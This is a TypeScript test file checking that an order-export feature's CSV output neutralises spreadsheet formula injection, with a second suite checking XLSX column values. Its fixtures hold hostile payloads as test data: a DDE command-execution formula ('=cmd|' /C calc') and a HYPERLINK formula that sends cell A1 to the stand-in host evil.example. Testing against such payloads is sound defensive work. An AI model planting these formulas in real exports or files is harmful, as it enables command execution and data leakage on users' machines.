/**
 * The CSV export with formula payloads in every field the upstream or a person can fill: read with a
 * comma, a semicolon or a tab as the separator (as spreadsheets in different locales do), no cell
 * starts a formula.
 */
import { randomUUID } from "node:crypto";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, expect, it } from "vitest";
import { createTestDb, describeEachDb, type TestDb } from "@/lib/test/db";
import { insertBatchRow, insertUser } from "@/lib/test/engine-fixtures";
import { exportOrders } from "./export";
import { orderFilterSchema } from "./schemas";

const TRIGGER = /^[=+\-@\t\r\0]/;
const CODE = [
  "Model: +1+1",
  "Carrier: -2+3;=cmd|' /C calc'!A0",
  "IMEI2: @SUM(1+1)",
  'FMI: ON,"=HYPERLINK(""http://evil.example"")',
  "SimLock: Locked\t=1+1",
].join("<br>");

/** The cells a spreadsheet splitting on `separator` would see, ignoring our quotes mid-row. */
function naiveCells(csv: string, separator: string): string[] {
  return csv
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(separator).map((cell) => cell.replace(/^"+/, "")));
}

describeEachDb("CSV export against formula injection", (provider) => {
  let db: TestDb;
  let csv = "";

  beforeAll(async () => {
    db = await createTestDb(provider);
    const user = await insertUser(db, "csv@shop.test", "operator");
    await db.write((p) =>
      p.service.create({
        data: {
          id: "666",
          title: '=HYPERLINK("http://evil.example/?"&A1,"open")',
          category: "@risk",
          priceMicros: 80_000n,
          deliveryTime: "Instant",
          refreshedAt: new Date(),
        },
      }),
    );
    const batch = await insertBatchRow(db, { ownerId: user.id, serviceId: "666", state: "done", size: 1 });
    await db.write((p) =>
      p.order.createMany({
        data: [
          {
            id: randomUUID(),
            batchId: batch.id,
            serviceId: "666",
            ownerId: user.id,
            imei: "353979106673005",
            line: 1,
            state: "completed",
            upstreamStatus: "\t=1+1",
            upstreamOrderId: "\r=2+2",
            code: CODE,
            priceMicros: 80_000n,
            placedAt: new Date(),
          },
        ],
      }),
    );
    const response = await exportOrders(db, user, orderFilterSchema.parse({}), {
      format: "csv",
      layout: "standard",
      timeZone: "UTC",
      sentQuery: {},
    });
    csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
    expect(csv.startsWith("\uFEFF")).toBe(true);
    csv = csv.slice(1);
  });

  afterAll(async () => {
    await db?.drop();
  });

  it("quotes and neutralises the payloads, reading back as one row of 13 cells", () => {
    const rows = Papa.parse<string[]>(csv.trim(), { delimiter: "," }).data;
    expect(rows).toHaveLength(2);
    const row = rows[1]!;
    expect(row).toHaveLength(13);
    expect(row[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
    expect(row[3]).toBe("'\t'=1+1");
    expect(row[11]).toBe("'\r'=2+2");
    for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(TRIGGER);
  });

  it("starts no formula for a spreadsheet that splits on a comma, a semicolon or a tab", () => {
    const commaCells = Papa.parse<string[]>(csv.trim(), { delimiter: "," }).data.flat();
    for (const cell of [...commaCells, ...naiveCells(csv, ";"), ...naiveCells(csv, "\t")])
      expect(cell, JSON.stringify(cell)).not.toMatch(TRIGGER);
  });
});

describeEachDb("the extended XLSX export", (provider) => {
  let db: TestDb;

  beforeAll(async () => {
    db = await createTestDb(provider);
  });

  afterAll(async () => {
    await db?.drop();
  });

  it("names the batch, the line and the operator, and keeps IMEIs as text and prices as numbers", async () => {
    const user = await insertUser(db, "xlsx@shop.test", "operator");
    await db.write((p) => p.user.update({ where: { id: user.id }, data: { name: "Dana Export" } }));
    await db.write((p) =>
      p.service.create({
        data: {
          id: "7",
          title: "Carrier check",
          category: "Checks",
          priceMicros: 80_000n,
          deliveryTime: "Instant",
          refreshedAt: new Date(),
        },
      }),
    );
    const batch = await insertBatchRow(db, { ownerId: user.id, serviceId: "7", state: "done", size: 1 });
    await db.write((p) =>
      p.order.create({
        data: {
          id: randomUUID(),
          batchId: batch.id,
          serviceId: "7",
          ownerId: user.id,
          imei: "013979106673005",
          line: 42,
          state: "completed",
          upstreamStatus: "Completed",
          upstreamOrderId: "90001",
          code: "Model: iPhone 13<br>Carrier: AT&T",
          priceMicros: 80_000n,
          placedAt: new Date("2026-11-30T23:30:00Z"),
        },
      }),
    );
    const response = await exportOrders(db, user, orderFilterSchema.parse({}), {
      format: "xlsx",
      layout: "extended",
      timeZone: "Europe/Berlin",
      sentQuery: {},
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = Object.fromEntries(headers.map((h, i) => [h, sheet.getRow(2).getCell(i + 1).value]));
    expect(row).toMatchObject({
      BATCH: (await db.prisma.batch.findUniqueOrThrow({ where: { id: batch.id } })).sourceName,
      LINE: 42,
      OPERATOR: "Dana Export",
      SERVICE: "Carrier check",
      "IMEI NO.": "013979106673005",
      CREDITS: 0.08,
      STATUS: "Completed",
      CARRIER: "AT&T",
      MODEL: "iPhone 13",
      RESULT: "Model: iPhone 13\nCarrier: AT&T",
      "UPSTREAM ID": "90001",
      STATE: "completed",
    });
    expect((row.PLACED as Date).toISOString()).toBe("2026-12-01T00:30:00.000Z");
    expect(sheet.rowCount).toBe(2);
  });
});
